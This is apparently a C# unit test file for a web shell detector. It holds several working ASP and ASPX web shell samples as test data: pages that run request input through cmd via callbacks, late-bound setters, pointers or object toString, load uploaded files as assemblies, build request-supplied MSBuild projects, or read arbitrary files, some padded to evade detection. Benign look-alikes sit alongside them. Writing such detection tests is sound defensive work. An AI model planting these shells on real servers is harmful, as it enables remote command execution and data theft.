using System.Text;
using Afterpatch.Scripts.WebShells;
using Xunit;

namespace Afterpatch.Scripts.Tests.WebShells;

/// <summary>Ways round by callbacks, late setters, pointers, texts of objects, saved files and padding; the same interfaces in honest use.</summary>
public sealed class RoundaboutTests
{
    private const string Cs = "<%@ Page Language=\"C#\" %><script runat=\"server\">void Page_Load(object o, EventArgs e) { ";
    private const string Cache = "null, DateTime.Now.AddSeconds(1), System.Web.Caching.Cache.NoSlidingExpiration, System.Web.Caching.CacheItemPriority.Low, Removed); } void Removed(string k, object v, System.Web.Caching.CacheItemRemovedReason r) { ";

    [Theory]
    [InlineData("a.aspx", Cs + "Cache.Add(\"k\", Request[\"a\"], " + Cache + "System.Diagnostics.Process.Start(\"cmd\", \"/c \" + v); }</script>")]
    [InlineData("a.aspx", "<%@ Page Language=\"VB\" %><script runat=\"server\">Sub Page_Load(s As Object, e As EventArgs)\nDim p As New System.Diagnostics.Process()\nCallByName(p.StartInfo, \"FileName\", CallType.Set, \"cmd\")\nCallByName(p.StartInfo, \"Arguments\", CallType.Set, \"/c \" & Request(\"a\"))\nCallByName(p, \"Start\", CallType.Method)\nEnd Sub</script>")]
    [InlineData("a.aspx", Cs + "var src = Request[\"a\"]; var dst = new char[src.Length]; unsafe { fixed (char* p = src) for (int i = 0; i < src.Length; i++) dst[i] = *(p + i); } System.Diagnostics.Process.Start(\"cmd\", \"/c \" + new string(dst)); }</script>")]
    [InlineData("a.aspx", Cs + "var f = Server.MapPath(\"~/App_Data/t.bin\"); Request.Files[0].SaveAs(f); System.Reflection.Assembly.UnsafeLoadFrom(f).CreateInstance(\"X\"); }</script>")]
    [InlineData("a.aspx", Cs + "var p = new Microsoft.Build.Evaluation.Project(System.Xml.XmlReader.Create(new System.IO.StringReader(Request[\"a\"]))); p.Build(); }</script>")]
    [InlineData("a.asp", "<% Set f = CreateObject(\"Scripting.FileSystemObject\").CreateTextFile(Server.MapPath(\"t.txt\"), True) : f.Write Request(\"a\") : f.Close : Server.Execute \"t.txt\" %>")]
    [InlineData("a.asp", "<%@ Language=JScript %><% var x = { toString: function() { return Request(\"x\") + \"\"; } }; new ActiveXObject(\"WScript.Shell\").Run(\"cmd /c ping \" + x); %>")]
    public void Shell(string name, string page) => Is(WebShellVerdict.WebShell, name, page);

    [Fact]
    public void Upload_that_is_loaded_from_a_temporary_file() =>
        Is(WebShellVerdict.WebShell, "a.aspx", Cs + "var f = System.IO.Path.GetTempFileName(); Request.Files[0].SaveAs(f); AppDomain.CurrentDomain.CreateInstanceFrom(f, \"X.Y\"); }</script>");

    [Theory]
    [InlineData("a.aspx", Cs + "Cache.Add(\"k\", System.IO.File.ReadAllText(Server.MapPath(\"~/App_Data/n.txt\")), " + Cache + "System.Diagnostics.Trace.WriteLine(k); }</script>")]
    [InlineData("a.aspx", "<%@ Page Language=\"VB\" %><script runat=\"server\">Sub Page_Load(s As Object, e As EventArgs)\nDim l As New System.Web.UI.WebControls.Label()\nCallByName(l, \"Text\", CallType.Set, Server.HtmlEncode(Request(\"a\")))\nForm.Controls.Add(l)\nEnd Sub</script><form runat=\"server\"></form>")]
    [InlineData("a.asp", "<% Set f = CreateObject(\"Scripting.FileSystemObject\").OpenTextFile(Server.MapPath(\"log.txt\"), 8, True) : f.WriteLine Request(\"a\") : f.Close : Server.Execute \"thanks.asp\" %>")]
    [InlineData("a.aspx", Cs + "foreach (var f in System.IO.Directory.GetFiles(Server.MapPath(\"~/plugins\"), \"*.dll\")) System.Reflection.Assembly.LoadFrom(f); var x = System.IO.Path.GetExtension(Request.Files[0].FileName); if (x != \".jpg\" && x != \".png\") return; Request.Files[0].SaveAs(Server.MapPath(\"~/uploads/\" + Guid.NewGuid().ToString(\"N\") + x)); }</script>")]
    public void Honest(string name, string page) => Is(WebShellVerdict.Benign, name, page);

    [Theory]
    [InlineData("// what this page is good for is told here\n", 400)]
    [InlineData("int unused = 0;\n", 400)]
    [InlineData("/* long and longer and longer still */\n\n", 300)]
    public void Padding_changes_nothing(string line, int times)
    {
        const string Read = "Response.Write(System.IO.File.ReadAllText(Request[\"f\"])); ";
        var padding = string.Concat(Enumerable.Repeat(line, times));
        Is(WebShellVerdict.WebShell, "a.aspx", "<%@ Page Language=\"C#\" %><% " + Read + "%>");
        Is(WebShellVerdict.WebShell, "a.aspx", "<%@ Page Language=\"C#\" %><% \n" + padding + Read + "%>");
        Is(WebShellVerdict.WebShell, "a.aspx", "<%@ Page Language=\"C#\" %><% string text = \"" + new string('x', 9_000) + "\"; " + Read + "%>");
    }

    private static void Is(WebShellVerdict verdict, string name, string page) => Assert.Equal(verdict, WebShellJudge.Judge(name, Encoding.UTF8.GetBytes(page)).Verdict);
}
